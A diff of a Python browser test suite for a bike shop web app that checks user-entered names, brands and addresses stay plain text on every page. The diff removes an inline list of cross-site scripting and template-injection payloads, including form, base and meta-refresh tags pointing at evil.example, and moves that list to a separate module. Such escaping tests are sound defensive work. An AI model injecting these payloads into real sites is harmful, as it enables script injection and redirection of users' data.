@@ -5,44 +5,14 @@ from urllib.parse import quote
 
 import pytest
 
+from roadbike.contracts.types import COLOUR_LENGTH, NAME_LENGTH
 from tests.browser.browserless import Browserless
 from tests.browser.conftest import Visit
+from tests.browser.payloads import PAYLOADS, packed
 from tests.browser.staff import Staff
 from tests.browser.visitors import ADDRESS, PASSWORD, Visitor
 from tests.system.real_shop import Shop
 
-PAYLOADS: Final = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '"><script>alert(1)</script>',
-    "'><script>alert(1)</script>",
-    '" onmouseover="alert(1)',
-    "' onfocus='alert(1)' autofocus='",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "<!--<script>alert(1)//--></script>",
-    "<iframe src=javascript:alert(1)>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<math><mtext></math><img src=x onerror=alert(1)>",
-    "<style>@import 'http://evil.example/x';</style>",
-    "<link rel=stylesheet href=http://evil.example/x>",
-    "<base href=http://evil.example/>",
-    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
-    "<form action=http://evil.example/><button>x</button></form>",
-    "{{ 7 * 7 }}",
-    "{% for x in y %}",
-    "${alert(1)}",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-)
 NEW_PASSWORD: Final = "another rare passphrase"
 GUARDED: Final = (  # every form that changes something, with what a forged one would send
     ("/logout", {}),
@@ -221,6 +191,10 @@ def test_texts_that_want_to_be_scripts_stay_texts_on_every_page(
     cookie = {"name": "roadbike-session", "value": client.session, "url": client.url}
     buyer.context.add_cookies([cookie])  # type: ignore[list-item] a TypedDict
     for payload in PAYLOADS:
+        bike = staff.bike(bikeNm=payload, brand=payload, colour=payload[:COLOUR_LENGTH])
+        buyer.go(f"/bikes/{bike}")
+        assert buyer.page.locator("main").inner_text().count(payload) >= 2, payload
+    for payload in packed(PAYLOADS, NAME_LENGTH):
         assert_is_text_everywhere(payload, buyer, client, staff)
     buyer.go("/")
     for payload in PAYLOADS:
@@ -231,7 +205,7 @@ def assert_is_text_everywhere(
     payload: str, buyer: Visitor, client: Browserless, staff: Staff
 ) -> None:
     """Order with the text as the bike's name, the buyer's name and the address."""
-    bike = staff.bike(bikeNm=payload, brand=payload[:100], colour=payload[:50])
+    bike = staff.bike(bikeNm=payload)
     to = ADDRESS | {"name": payload, "address": payload}
     saved = client.own_post("/account", to)
     assert saved.status_code == 303, (payload, saved.text)
@@ -239,7 +213,7 @@ def assert_is_text_everywhere(
     reservation_id = client.reserve(bike, to)
     payment, purchase = client.paths_of(reservation_id)
     shown = {
-        f"/bikes/{bike}": 2,
+        f"/bikes/{bike}": 1,
         review: 3,
         payment: 1,
         "/purchases": 1,
